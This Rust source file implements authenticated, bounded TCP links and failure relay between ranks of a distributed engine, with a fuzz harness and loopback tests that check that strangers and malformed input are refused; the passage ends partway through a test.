//! [`Links`] between processes over TCP, and the failure board they carry.
//!
//! Each rank binds a [`Listener`] first, publishes its addresses through whatever the job
//! already shares (torch.distributed's store, in the Python package), then [`TcpLinks::connect`]
//! joins the others: every pair of ranks ([`Topology::Mesh`], for the CPU transport's data), or
//! every rank with rank 0 ([`Topology::Star`], beside NCCL, for failures only: rank 0 passes a
//! failure on to the rest).
//!
//! **Only the job's ranks become links.** A connection is a link once both ends proved that
//! they hold the engine's secret ([`Credentials`], see `handshake.rs`) and named the right
//! engine, world and ranks. Each connection's handshake runs in a thread of its own under a
//! short deadline, so a stranger that connects and sends nothing, or garbage, delays no one;
//! it is dropped and logged (once per engine, then at debug level).
//!
//! **Nothing a linked peer sends is trusted further than it must be** (`frame.rs`): a data
//! message's length must be one this rank's exchanges expect ([`Links::expect`]) before memory
//! is reserved for it (one announced early waits for this rank to get there, at most the
//! timeout); each peer's inbox holds a bounded number of messages; a failure must name a rank
//! of the group, and its text is cut and stripped of control characters.
//!
//! A reader thread per peer hands data to the receiver and raises failures on the board: a
//! failure a peer reports, or a connection that closes without the peer's goodbye, which is
//! how a rank whose process died shows, at once and over any interconnect.
//!
//! Addresses: `CFC_LINK_ADDR` (an IP of this host) when set; else, for ranks that all run on
//! one host, the loopback address; else the address this host uses to reach `MASTER_ADDR`
//! (or, failing that, one its name resolves to). A listener binds that address alone.

mod frame;
mod handshake;

pub use handshake::{Credentials, SECRET_MAX, SECRET_MIN};

use super::{closed, Links, BOARD_POLL, MESSAGE_FLOOR};
use crate::engine::control::{Control, Failure, Tell};
use crate::error::{Error, Result};
use crossbeam_channel::{Receiver, RecvTimeoutError, SendTimeoutError, Sender};
use frame::{Incoming, KIND_BYE, KIND_DATA, KIND_FAILURE};
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Which pairs of ranks are linked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Topology {
    /// Every pair: data between any two ranks.
    Mesh,
    /// Every rank with rank 0: failures only (rank 0 passes them on).
    Star,
}

/// Where the ranks of a job run, which decides the address a listener binds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reach {
    /// Every rank runs on this host: the loopback address, reachable from nowhere else.
    OneHost,
    /// Ranks on other hosts: the address of the interface that reaches `MASTER_ADDR`.
    Network,
}

/// How long one connection's handshake may take (less where the engine's timeout is shorter).
const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);
/// The most handshakes in flight at once; connections past it are dropped at once.
const HANDSHAKES_MAX: usize = 64;
/// The most messages a peer's inbox holds: the engine's collectives run in the same order on
/// every rank, so a peer is at most a collective or two ahead, a few messages.
const INBOX_MESSAGES: usize = 64;

/// A bound socket, not yet linked: bind it, publish [`Listener::addresses`], then connect.
#[derive(Debug)]
pub struct Listener {
    socket: TcpListener,
}

/// The address of this host's interface toward `MASTER_ADDR` (no packet is sent), if any.
fn routed_to_master() -> Option<IpAddr> {
    let master = std::env::var("MASTER_ADDR").ok()?;
    let s = UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect((master.as_str(), 9)).ok()?;
    Some(s.local_addr().ok()?.ip())
}

/// The IPv4 addresses this host's name resolves to.
fn named_addresses() -> Vec<IpAddr> {
    hostname()
        .and_then(|h| (h.as_str(), 0).to_socket_addrs().ok())
        .map(|a| a.map(|a| a.ip()).filter(|ip| ip.is_ipv4()).collect())
        .unwrap_or_default()
}

impl Listener {
    /// Binds a port on `CFC_LINK_ADDR` (when set), else on the address `reach` calls for (see
    /// the module docs); on every interface only where no address of this host can be found
    /// that the others could reach (logged).
    ///
    /// # Errors
    /// [`Error::Transport`] when `CFC_LINK_ADDR` is no IP address or no port can be bound.
    pub fn bind(reach: Reach) -> Result<Listener> {
        let ip: IpAddr = match std::env::var("CFC_LINK_ADDR") {
            Ok(a) => a
                .parse()
                .map_err(|_| Error::Transport(format!("CFC_LINK_ADDR={a} is not an IP address")))?,
            Err(_) if reach == Reach::OneHost => IpAddr::V4(Ipv4Addr::LOCALHOST),
            Err(_) => {
                let found = routed_to_master()
                    .into_iter()
                    .chain(named_addresses())
                    .find(|ip| !ip.is_loopback() && !ip.is_unspecified());
                found.unwrap_or_else(|| {
                    tracing::warn!(
                        "cfc: no address of this host reaches MASTER_ADDR: the engine's links \
                         listen on every interface (set CFC_LINK_ADDR to choose one)"
                    );
                    IpAddr::V4(Ipv4Addr::UNSPECIFIED)
                })
            }
        };
        let socket = TcpListener::bind(SocketAddr::new(ip, 0))
            .map_err(|e| Error::Transport(format!("cannot bind a TCP port on {ip}: {e}")))?;
        Ok(Listener { socket })
    }

    /// The addresses peers may reach this rank at, best first: the one it is bound to, or,
    /// bound to every interface, those of the module docs with loopback last.
    pub fn addresses(&self) -> Vec<String> {
        let Ok(bound) = self.socket.local_addr() else {
            return Vec::new();
        };
        if !bound.ip().is_unspecified() {
            return vec![bound.to_string()];
        }
        let mut ips: Vec<IpAddr> = routed_to_master().into_iter().collect();
        ips.extend(named_addresses());
        ips.push(IpAddr::V4(Ipv4Addr::LOCALHOST));
        let mut seen = Vec::new();
        for ip in ips {
            if !seen.contains(&ip) && !ip.is_unspecified() {
                seen.push(ip);
            }
        }
        // Loopback last: on one host every address works, across hosts only the others do.
        seen.sort_by_key(|ip| ip.is_loopback());
        seen.into_iter()
            .map(|ip| SocketAddr::new(ip, bound.port()).to_string())
            .collect()
    }
}

/// This host's name, from the kernel.
fn hostname() -> Option<String> {
    std::fs::read_to_string("/proc/sys/kernel/hostname")
        .ok()
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty())
}

/// One peer's link: the writing half (shared with the board's `tell`).
struct Peer {
    writer: Mutex<TcpStream>,
}

impl Peer {
    fn write(&self, kind: u8, payload: &[u8]) -> std::io::Result<()> {
        let mut w = self.writer.lock().unwrap_or_else(|e| e.into_inner());
        w.write_all(&frame::head(kind, payload.len()))?;
        w.write_all(payload)?;
        w.flush()
    }
}

enum Message {
    Data(Vec<u8>),
    Bye,
}

/// One rank's links to the others; see the module docs.
pub struct TcpLinks {
    rank: usize,
    world: usize,
    peers: Arc<Vec<Option<Peer>>>,
    inbox: Vec<Option<Receiver<Message>>>,
    gone: Vec<bool>,
    control: Arc<Control>,
    closing: Arc<AtomicBool>,
    /// The longest data message this rank's exchanges have expected so far (see
    /// [`Links::expect`]); the readers admit no longer one.
    expected: Arc<AtomicU64>,
    timeout: Duration,
}

impl std::fmt::Debug for TcpLinks {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TcpLinks")
            .field("rank", &self.rank)
            .field("world", &self.world)
            .finish()
    }
}

/// Logs a refused connection: the first of an engine as a warning, the rest at debug level
/// (a scan of the port must not flood the log).
fn refused(warned: &AtomicBool, rank: usize, from: Option<SocketAddr>, why: &str) {
    let from = from.map_or_else(|| "?".to_string(), |a| a.to_string());
    if !warned.swap(true, Ordering::SeqCst) {
        tracing::warn!(
            "cfc: rank {rank} refused a connection from {from} to its engine's links: {why} \
             (further refusals are logged at debug level)"
        );
    } else {
        tracing::debug!("cfc: rank {rank} refused a connection from {from}: {why}");
    }
}

/// What the thread that admits the higher ranks' connections needs.
struct Admission {
    socket: TcpListener,
    cred: Credentials,
    rank: usize,
    world: usize,
    /// Ranks this rank waits for, still unlinked.
    waiting: Arc<Mutex<Vec<bool>>>,
    linked: Sender<(usize, TcpStream)>,
    stop: Arc<AtomicBool>,
    handshake: Duration,
}

impl Admission {
    /// Accepts until stopped; each connection's handshake runs in a thread of its own, so that
    /// none can hold up the others.
    fn run(self) {
        let this = Arc::new(self);
        let pending = Arc::new(AtomicUsize::new(0));
        let warned = Arc::new(AtomicBool::new(false));
        while !this.stop.load(Ordering::SeqCst) {
            match this.socket.accept() {
                Ok((s, from)) => {
                    if pending.load(Ordering::SeqCst) >= HANDSHAKES_MAX {
                        refused(
                            &warned,
                            this.rank,
                            Some(from),
                            "too many handshakes at once",
                        );
                        continue;
                    }
                    pending.fetch_add(1, Ordering::SeqCst);
                    let (this, pending, warned) = (this.clone(), pending.clone(), warned.clone());
                    let spawned = std::thread::Builder::new()
                        .name("cfc-handshake".into())
                        .spawn(move || {
                            if let Err(why) = this.admit(s) {
                                refused(&warned, this.rank, Some(from), &why);
                            }
                            pending.fetch_sub(1, Ordering::SeqCst);
                        });
                    if spawned.is_err() {
                        tracing::warn!("cfc: cannot start a handshake thread");
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    std::thread::sleep(Duration::from_millis(2));
                }
                Err(e) => {
                    tracing::debug!("cfc: accepting a link: {e}");
                    std::thread::sleep(Duration::from_millis(20));
                }
            }
        }
    }

    fn admit(&self, mut s: TcpStream) -> std::result::Result<(), String> {
        s.set_nonblocking(false)
            .and_then(|_| s.set_read_timeout(Some(self.handshake)))
            .and_then(|_| s.set_write_timeout(Some(self.handshake)))
            .map_err(|e| e.to_string())?;
        let waits = |p: usize| {
            let w = self.waiting.lock().unwrap_or_else(|e| e.into_inner());
            w.get(p).copied().unwrap_or(false)
        };
        let peer = handshake::accept_side(&mut s, &self.cred, self.rank, self.world, waits)?;
        let mut w = self.waiting.lock().unwrap_or_else(|e| e.into_inner());
        if !w[peer] {
            return Err(format!("rank {peer} is linked already"));
        }
        w[peer] = false;
        drop(w);
        // (the receiver may have given up: then the connection just closes)
        let _ = self.linked.send((peer, s));
        Ok(())
    }
}

/// Connects to `peer` at the first of its `addresses` that answers and proves the engine's
/// secret, trying again until `deadline`.
fn dial(
    addresses: &[String],
    cred: &Credentials,
    rank: usize,
    peer: usize,
    world: usize,
    deadline: Instant,
) -> Result<TcpStream> {
    let mut last = String::from("no address was published");
    while Instant::now() < deadline {
        for a in addresses {
            let Ok(mut addrs) = a.to_socket_addrs() else {
                last = format!("{a} does not resolve");
                continue;
            };
            let Some(addr) = addrs.next() else { continue };
            let handshake =
                HANDSHAKE_TIMEOUT.min(deadline.saturating_duration_since(Instant::now()));
            if handshake.is_zero() {
                break;
            }
            let linked = TcpStream::connect_timeout(&addr, Duration::from_secs(2).min(handshake))
                .map_err(|e| e.to_string())
                .and_then(|mut s| {
                    s.set_read_timeout(Some(handshake))
                        .and_then(|_| s.set_write_timeout(Some(handshake)))
                        .map_err(|e| e.to_string())?;
                    handshake::dial_side(&mut s, cred, rank, peer, world)?;
                    Ok(s)
                });
            match linked {
                Ok(s) => return Ok(s),
                Err(e) => last = format!("{a}: {e}"),
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Err(Error::Transport(format!(
        "could not link with rank {peer} ({last}); set CFC_LINK_ADDR to an address of each host \
         that the others can reach"
    )))
}

impl TcpLinks {
    /// Links this rank (`rank` of `world`, bound to `listener`) with its peers, whose published
    /// addresses are `addresses[j]` (this rank's own entry is not read), for one engine (`cred`:
    /// the same on every rank). Waits at most `timeout` for the peers; a later receive waits
    /// at most `timeout` too.
    ///
    /// # Errors
    /// [`Error::Transport`] when a peer cannot be reached, or does not link within `timeout`
    /// (naming the ranks missing).
    pub fn connect(
        listener: Listener,
        rank: usize,
        world: usize,
        addresses: &[Vec<String>],
        cred: &Credentials,
        topology: Topology,
        timeout: Duration,
    ) -> Result<TcpLinks> {
        if rank >= world || addresses.len() != world {
            return Err(Error::Transport(format!(
                "rank {rank} of {world} with {} addresses",
                addresses.len()
            )));
        }
        let linked = |a: usize, b: usize| match topology {
            Topology::Mesh => a != b,
            Topology::Star => a != b && (a == 0 || b == 0),
        };
        let deadline = Instant::now() + timeout;
        let mut streams: Vec<Option<TcpStream>> = (0..world).map(|_| None).collect();
        // Higher ranks dial in, lower ranks are dialled: the higher ones are admitted by a
        // thread of their own meanwhile, so no two ranks wait on each other.
        let waiting: Vec<bool> = (0..world).map(|p| p > rank && linked(rank, p)).collect();
        let mut expected = waiting.iter().filter(|&&w| w).count();
        let (tx, rx) = crossbeam_channel::unbounded();
        let stop = Arc::new(AtomicBool::new(false));
        listener
            .socket
            .set_nonblocking(true)
            .map_err(|e| Error::Transport(e.to_string()))?;
        let admission = Admission {
            socket: listener.socket,
            cred: cred.clone(),
            rank,
            world,
            waiting: Arc::new(Mutex::new(waiting)),
            linked: tx,
            stop: stop.clone(),
            handshake: HANDSHAKE_TIMEOUT.min(timeout),
        };
        let waiting = admission.waiting.clone();
        let admitting = std::thread::Builder::new()
            .name("cfc-admit".into())
            .spawn(move || admission.run())
            .map_err(|e| Error::Transport(format!("cannot start the link thread: {e}")))?;
        let joined = (|| -> Result<()> {
            for peer in (0..rank).filter(|&p| linked(rank, p)) {
                streams[peer] = Some(dial(&addresses[peer], cred, rank, peer, world, deadline)?);
            }
            while expected > 0 {
                let left = deadline.saturating_duration_since(Instant::now());
                match rx.recv_timeout(left) {
                    Ok((peer, s)) => {
                        streams[peer] = Some(s);
                        expected -= 1;
                    }
                    Err(_) => {
                        let w = waiting.lock().unwrap_or_else(|e| e.into_inner());
                        let missing: Vec<usize> = (0..world).filter(|&p| w[p]).collect();
                        return Err(Error::Transport(format!(
                            "ranks {missing:?} did not link with rank {rank} within {:.0} s",
                            timeout.as_secs_f64()
                        )));
                    }
                }
            }
            Ok(())
        })();
        stop.store(true, Ordering::SeqCst);
        let _ = admitting.join(); // (within a few ms; the port closes with it)
        joined?;
        let control = Control::new();
        let closing = Arc::new(AtomicBool::new(false));
        let expected = Arc::new(AtomicU64::new(MESSAGE_FLOOR as u64));
        let mut readers = Vec::with_capacity(world);
        let mut inbox = Vec::with_capacity(world);
        let mut peers = Vec::with_capacity(world);
        for s in streams {
            match s {
                Some(s) => {
                    let _ = s.set_nodelay(true);
                    let _ = s.set_read_timeout(None);
                    // A peer that stops reading (a stopped process) fails a write after the
                    // timeout instead of blocking this rank, and its board's `tell`, for good.
                    let _ = s.set_write_timeout(Some(timeout));
                    let reader = s
                        .try_clone()
                        .map_err(|e| Error::Transport(format!("a link: {e}")))?;
                    let (tx, rx) = crossbeam_channel::bounded(INBOX_MESSAGES);
                    readers.push(Some((reader, tx)));
                    inbox.push(Some(rx));
                    peers.push(Some(Peer {
                        writer: Mutex::new(s),
                    }));
                }
                None => {
                    readers.push(None);
                    inbox.push(None);
                    peers.push(None);
                }
            }
        }
        let peers = Arc::new(peers);
        // A failure raised here goes to every linked peer (rank 0 of a star passes it on).
        let tell_peers = peers.clone();
        let tell: Tell = Box::new(move |f: &Failure| {
            let payload = frame::failure_payload(f);
            for p in tell_peers.iter().flatten() {
                let _ = p.write(KIND_FAILURE, &payload);
            }
        });
        control.set_tell(tell);
        for (peer, r) in readers.into_iter().enumerate() {
            if let Some((stream, tx)) = r {
                let ctx = ReaderContext {
                    peer,
                    world,
                    relay: topology == Topology::Star && rank == 0,
                    peers: peers.clone(),
                    control: control.clone(),
                    closing: closing.clone(),
                    expected: expected.clone(),
                    timeout,
                };
                std::thread::Builder::new()
                    .name(format!("cfc-link-{peer}"))
                    .spawn(move || ctx.run(stream, tx))
                    .map_err(|e| Error::Transport(format!("cannot start a link thread: {e}")))?;
            }
        }
        Ok(TcpLinks {
            rank,
            world,
            peers,
            inbox,
            gone: vec![false; world],
            control,
            closing,
            expected,
            timeout,
        })
    }
}

/// What a reader thread needs.
struct ReaderContext {
    peer: usize,
    world: usize,
    /// Rank 0 of a star: failures from one peer go on to the others.
    relay: bool,
    peers: Arc<Vec<Option<Peer>>>,
    control: Arc<Control>,
    closing: Arc<AtomicBool>,
    expected: Arc<AtomicU64>,
    timeout: Duration,
}

impl ReaderContext {
    /// Whether a data message of `len` bytes may be read: once this rank's exchanges expect one
    /// that long (a peer a collective ahead announces it before this rank gets there), waiting
    /// at most the timeout.
    fn admit(&self, len: u64) -> std::result::Result<(), String> {
        let t0 = Instant::now();
        loop {
            if len <= self.expected.load(Ordering::SeqCst) {
                return Ok(());
            }
            if self.closing.load(Ordering::SeqCst) || self.control.failure().is_some() {
                return Err("the links are closing".into());
            }
            if t0.elapsed() > self.timeout {
                return Err(format!(
                    "it announced a message of {len} bytes, where this rank's exchanges expect \
                     at most {} (for {:.0} s)",
                    self.expected.load(Ordering::SeqCst),
                    self.timeout.as_secs_f64()
                ));
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    }

    /// Hands `m` to the receiver, waiting while the inbox is full (at most the timeout).
    /// `Ok(false)`: the links were dropped.
    fn deliver(&self, tx: &Sender<Message>, mut m: Message) -> std::result::Result<bool, String> {
        let t0 = Instant::now();
        loop {
            match tx.send_timeout(m, BOARD_POLL) {
                Ok(()) => return Ok(true),
                Err(SendTimeoutError::Disconnected(_)) => return Ok(false),
                Err(SendTimeoutError::Timeout(back)) => {
                    if self.closing.load(Ordering::SeqCst) {
                        return Ok(false);
                    }
                    if t0.elapsed() > self.timeout {
                        return Err(format!(
                            "it sent {INBOX_MESSAGES} messages that no exchange of this rank took"
                        ));
                    }
                    m = back;
                }
            }
        }
    }

    fn run(self, mut s: TcpStream, tx: Sender<Message>) {
        let why = loop {
            match frame::read_message(&mut s, self.world, |len| self.admit(len)) {
                Ok(Incoming::Data(d)) => match self.deliver(&tx, Message::Data(d)) {
                    Ok(true) => {}
                    Ok(false) => return,
                    Err(why) => break why,
                },
                Ok(Incoming::Failure(f)) => self.raise(f),
                Ok(Incoming::Bye(f)) => {
                    // A goodbye carries the failure the peer knew of: raised here before the
                    // goodbye is seen, so that a rank waiting on this peer reports that failure
                    // (named by the rank where it began) and not the goodbye, whichever link
                    // brought the failure first.
                    if let Some(f) = f {
                        self.raise(f);
                    }
                    let _ = self.deliver(&tx, Message::Bye);
                    return;
                }
                Err(why) => break why,
            }
        };
        if !self.closing.load(Ordering::SeqCst) {
            self.raise(Failure {
                rank: self.peer,
                reason: why,
                at: 0,
            });
        }
    }

    fn raise(&self, f: Failure) {
        if self.control.raise(f.clone(), false) && self.relay {
            let payload = frame::failure_payload(&f);
            for (j, p) in self.peers.iter().enumerate() {
                if let (Some(p), true) = (p, j != self.peer) {
                    let _ = p.write(KIND_FAILURE, &payload);
                }
            }
        }
    }
}

impl Links for TcpLinks {
    fn rank(&self) -> usize {
        self.rank
    }

    fn world(&self) -> usize {
        self.world
    }

    fn control(&self) -> &Arc<Control> {
        &self.control
    }

    fn expect(&mut self, bytes: usize) {
        self.expected.fetch_max(bytes as u64, Ordering::SeqCst);
    }

    fn send(&mut self, peer: usize, data: &[u8]) -> Result<()> {
        self.control.check()?;
        let p = self
            .peers
            .get(peer)
            .and_then(|p| p.as_ref())
            .ok_or_else(|| {
                Error::Transport(format!("rank {} has no link to rank {peer}", self.rank))
            })?;
        p.write(KIND_DATA, data)
            .map_err(|e| Error::Transport(format!("sending to rank {peer}: {e}")))
    }

    fn recv(&mut self, peer: usize) -> Result<Vec<u8>> {
        let rx = self
            .inbox
            .get(peer)
            .and_then(|r| r.as_ref())
            .ok_or_else(|| {
                Error::Transport(format!("rank {} has no link to rank {peer}", self.rank))
            })?;
        let t0 = Instant::now();
        loop {
            if self.gone[peer] {
                return Err(closed(&self.control, peer));
            }
            // What arrived before a failure was raised is still taken (see `LocalLinks::recv`).
            match rx.recv_timeout(BOARD_POLL) {
                Ok(Message::Data(d)) => return Ok(d),
                Ok(Message::Bye) => self.gone[peer] = true,
                Err(RecvTimeoutError::Timeout) => {
                    self.control.check()?;
                    if t0.elapsed() > self.timeout {
                        return Err(Error::Timeout {
                            peer,
                            seconds: self.timeout.as_secs_f64(),
                        });
                    }
                }
                // The reader ended (it raised why on the board): nothing more can come.
                Err(RecvTimeoutError::Disconnected) => {
                    self.control.check()?;
                    return Err(match self.control.failure() {
                        Some(f) => f.error(),
                        None => Error::Transport(format!("the link to rank {peer} closed")),
                    });
                }
            }
        }
    }

    fn close(&mut self) {
        if self.closing.swap(true, Ordering::SeqCst) {
            return;
        }
        // (with the failure this rank knows of: see the reader's KIND_BYE)
        let bye = self
            .control
            .failure()
            .map(|f| frame::failure_payload(&f))
            .unwrap_or_default();
        for p in self.peers.iter().flatten() {
            let _ = p.write(KIND_BYE, &bye);
        }
        for p in self.peers.iter().flatten() {
            let w = p.writer.lock().unwrap_or_else(|e| e.into_inner());
            let _ = w.shutdown(std::net::Shutdown::Write);
        }
    }
}

impl Drop for TcpLinks {
    fn drop(&mut self) {
        self.close();
    }
}

/// Feeds hostile bytes to what reads a link: the accepting side of a handshake (as rank 0 of
/// 3), then the messages after it, until either refuses. For the fuzz target `link`
/// (`fuzz/fuzz_targets/link.rs`) and the random-input tests; it must never panic, hang or
/// reserve more than it admitted.
#[doc(hidden)]
pub fn read_hostile_link(bytes: &[u8]) {
    /// Reads `bytes`, swallows writes.
    struct Hostile<'a>(std::io::Cursor<&'a [u8]>);
    impl std::io::Read for Hostile<'_> {
        fn read(&mut self, b: &mut [u8]) -> std::io::Result<usize> {
            self.0.read(b)
        }
    }
    impl Write for Hostile<'_> {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let Ok(cred) = Credentials::new(&[1; 32], 0) else {
        return;
    };
    let mut s = Hostile(std::io::Cursor::new(bytes));
    let _ = handshake::accept_side(&mut s, &cred, 0, 3, |_| true);
    // (whatever the handshake left, read as messages: a fuzzer cannot forge the proof)
    let admitted = 1u64 << 16;
    while let Ok(m) = frame::read_message(&mut s, 3, |len| {
        if len <= admitted {
            Ok(())
        } else {
            Err(format!("{len} bytes"))
        }
    }) {
        if let Incoming::Data(d) = m {
            assert!(d.len() as u64 <= admitted);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::transport::host;

    /// The credentials of the tests' links.
    pub(crate) fn cred() -> Credentials {
        Credentials::new(&[42; 32], 7).unwrap()
    }

    /// Links the ranks bound to `listeners` (threads of this process), each waiting at most
    /// `timeout`.
    fn link(listeners: Vec<Listener>, topology: Topology, timeout: Duration) -> Vec<TcpLinks> {
        let world = listeners.len();
        let addresses: Vec<Vec<String>> = listeners.iter().map(|l| l.addresses()).collect();
        std::thread::scope(|s| {
            let handles: Vec<_> = listeners
                .into_iter()
                .enumerate()
                .map(|(rank, l)| {
                    let addresses = &addresses;
                    s.spawn(move || {
                        TcpLinks::connect(l, rank, world, addresses, &cred(), topology, timeout)
                            .unwrap()
                    })
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        })
    }

    /// Links for `world` ranks of this process over loopback.
    pub(crate) fn loopback(world: usize, topology: Topology) -> Vec<TcpLinks> {
        let listeners = (0..world)
            .map(|_| Listener::bind(Reach::OneHost).unwrap())
            .collect();
        link(listeners, topology, Duration::from_secs(20))
    }

    /// Every rank all-gathers its rank + 1 over `links` with no failure, then closes them.
    fn all_gather_ranks(links: Vec<TcpLinks>) {
        let world = links.len();
        let out: Vec<Vec<u8>> = std::thread::scope(|s| {
            let hs: Vec<_> = links
                .into_iter()
                .map(|mut l| {
                    s.spawn(move || {
                        let mut all = vec![0u8; world];
                        let mine = [l.rank() as u8 + 1];
                        host::all_gather(&mut l, &mine, &mut all).unwrap();
                        assert!(l.control().failure().is_none());
                        l.close();
                        all
                    })
                })
                .collect();
            hs.into_iter().map(|h| h.join().unwrap()).collect()
        });
        let want: Vec<u8> = (1..=world as u8).collect();
        assert!(out.iter().all(|a| a == &want), "{out:?}");
    }

    #[test]
    fn a_mesh_carries_data_and_a_closed_peer_is_no_failure() {
        all_gather_ranks(loopback(3, Topology::Mesh));
    }

    #[test]
    fn a_star_tells_every_rank_of_a_failure_and_of_a_dead_peer() {
        let links = loopback(3, Topology::Star);
        links[2].control().raise(
            Failure {
                rank: 2,
                reason: "boom".into(),
                at: 0,
            },
            true,
        );
        for l in &links[..2] {
            let t0 = Instant::now();
            while l.control().failure().is_none() && t0.elapsed() < Duration::from_secs(5) {
                std::thread::sleep(Duration::from_millis(1));
            }
            assert_eq!(
                l.control().failure().map(|f| (f.rank, f.reason)),
                Some((2, "boom".into()))
            );
        }
        // A peer that goes away without a goodbye (its process died) is a failure too.
        let mut links = loopback(2, Topology::Star);
        let dead = links.pop().unwrap();
        dead.closing.store(true, Ordering::SeqCst); // no goodbye on drop
        for p in dead.peers.iter().flatten() {
            let _ = p.writer.lock().unwrap().shutdown(std::net::Shutdown::Both);
        }
        let t0 = Instant::now();
        while links[0].control().failure().is_none() && t0.elapsed() < Duration::from_secs(5) {
            std::thread::sleep(Duration::from_millis(1));
        }
        assert_eq!(links[0].control().failure().map(|f| f.rank), Some(1));
        let err = links[0].recv(1).unwrap_err();
        assert!(matches!(err, Error::PeerFailed { rank: 1, .. }), "{err}");
    }

    /// A peer that closes its engine after a failure it knows of (raised by a third rank, whose
    /// own message may come later) says so in its goodbye: a rank waiting on it reports that
    /// failure, named by the rank where it began, not the goodbye.
    #[test]
    fn a_goodbye_carries_the_failure_its_rank_knew_of() {
        let mut links = loopback(3, Topology::Mesh);
        let failure = Failure {
            rank: 2,
            reason: "boom".into(),
            at: 0,
        };
        links[1].control().raise(failure, false); // (known to rank 1 only)
        links[1].close();
        let err = links[0].recv(1).unwrap_err();
        assert!(
            matches!(&err, Error::PeerFailed { rank: 2, reason } if reason == "boom"),
            "{err}"
        );
        // Without a failure, a goodbye mid-exchange is just that.
        let mut links = loopback(2, Topology::Mesh);
        links[1].close();
        let err = links[0].recv(1).unwrap_err();
        assert!(
            err.to_string().contains("rank 1 closed its engine"),
            "{err}"
        );
    }

    /// Rank 0 of 2 linked with a raw connection that proved the secret as rank 1: a peer that
    /// holds the secret but sends whatever it likes.
    fn with_raw_peer(timeout: Duration) -> (TcpLinks, TcpStream) {
        let l = Listener::bind(Reach::OneHost).unwrap();
        let addresses = vec![l.addresses(), vec![]];
        let at = addresses[0][0].clone();
        let rank0 = std::thread::spawn(move || {
            TcpLinks::connect(l, 0, 2, &addresses, &cred(), Topology::Mesh, timeout).unwrap()
        });
        let mut raw = TcpStream::connect(at).unwrap();
        handshake::dial_side(&mut raw, &cred(), 1, 0, 2).unwrap();
        (rank0.join().unwrap(), raw)
    }

    fn send_raw(s: &mut TcpStream, kind: u8, payload: &[u8]) {
        s.write_all(&frame::head(kind, payload.len())).unwrap();
        s.write_all(payload).unwrap();
    }

    /// The first failure on `links`' board, waiting up to 10 s for it.
    fn failure_of(links: &TcpLinks) -> Failure {
        let t0 = Instant::now();
        while t0.elapsed() < Duration::from_secs(10) {
            if let Some(f) = links.control().failure() {
                return f;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        panic!("no failure within 10 s");
    }

    /// Ranks on several hosts: a listener bound where the others can reach it (not loopback,
    /// unless this host has no other address), and links made over it.
    #[test]
    fn listeners_for_several_hosts_bind_a_reachable_address() {
        let listeners = [
            Listener::bind(Reach::Network).unwrap(),
            Listener::bind(Reach::Network).unwrap(),
        ];
        let addresses: Vec<Vec<String>> = listeners.iter().map(|l| l.addresses()).collect();
        let bound = listeners[0].socket.local_addr().unwrap().ip();
        if std::env::var("CFC_LINK_ADDR").is_err() {
            assert!(!bound.is_loopback(), "{addresses:?}");
        }
        assert!(!addresses[0].is_empty());
        let links = link(listeners.into(), Topology::Mesh, Duration::from_secs(20));
        all_gather_ranks(links);
    }

    /// Random bytes, and random bytes after a well-formed hello, at a link's reader.
    #[test]
    fn hostile_bytes_at_a_link_are_refused_without_a_panic() {
        use rand::{Rng, SeedableRng};
        let mut rng = rand::rngs::StdRng::seed_from_u64(11);
        for _ in 0..5000 {
            let n = rng.gen_range(0..200);
            let mut b: Vec<u8> = (0..n).map(|_| rng.gen()).collect();
            if rng.gen_bool(0.5) && b.len() >= 8 {
                b[..8].copy_from_slice(&[b'c', b'f', b'c', b'H', 1, 0, 0, 0]);
            }
            read_hostile_link(&b);
        }
    }

    /// A stranger that knows the port (an idle connection, one that sends garbage, one that
    /// claims a rank with the old token or without the secret) neither joins nor holds up the
    /// job's ranks.
    #[test]
    fn strangers_do_not_join_or_stall_the_links() {
        use std::io::Read;
        let world = 3;
        let listeners: Vec<Listener> = (0..world)
            .map(|_| Listener::bind(Reach::OneHost).unwrap())
            .collect();
        let addresses: Vec<Vec<String>> = listeners.iter().map(|l| l.addresses()).collect();
        assert!(addresses
            .iter()
            .all(|a| a.len() == 1 && a[0].starts_with("127.0.0.1:")));
        // before any rank links: connections to rank 0 that never complete a handshake
        let target = addresses[0][0].clone();
        let idle = TcpStream::connect(&target).unwrap();
        let mut garbage = TcpStream::connect(&target).unwrap();
        garbage.write_all(&[0xff; 100]).unwrap();
        let mut old = TcpStream::connect(&target).unwrap();
        let mut hello = b"cfcL".to_vec();
        hello.extend_from_slice(&42u64.to_le_bytes());
        hello.extend_from_slice(&1u32.to_le_bytes());
        old.write_all(&hello).unwrap();
        let wrong = Credentials::new(&[9; 32], 7).unwrap();
        let impostor = std::thread::spawn(move || {
            let mut s = TcpStream::connect(&target).unwrap();
            s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
            handshake::dial_side(&mut s, &wrong, 1, 0, 3)
        });
        let t0 = Instant::now();
        let links = link(listeners, Topology::Mesh, Duration::from_secs(60));
        // (an idle stranger is not waited for: far below the handshake's own 10 s)
        assert!(t0.elapsed() < Duration::from_secs(5), "{:?}", t0.elapsed());
        // (refused at its hello where rank 1 was linked first, else at its proof)
        let err = impostor.join().unwrap().unwrap_err();
        assert!(
            err.contains("does not prove") || err.contains("no answer"),
            "{err}"
        );
        // garbage is refused at once: closed without an answer (the old handshake, shorter than
        // a hello, and the idle connection wait out the handshake's deadline, in their threads)
        let mut b = [0u8; 64];
        assert!(matches!(garbage.read(&mut b), Ok(0) | Err(_)));
        drop((idle, old));
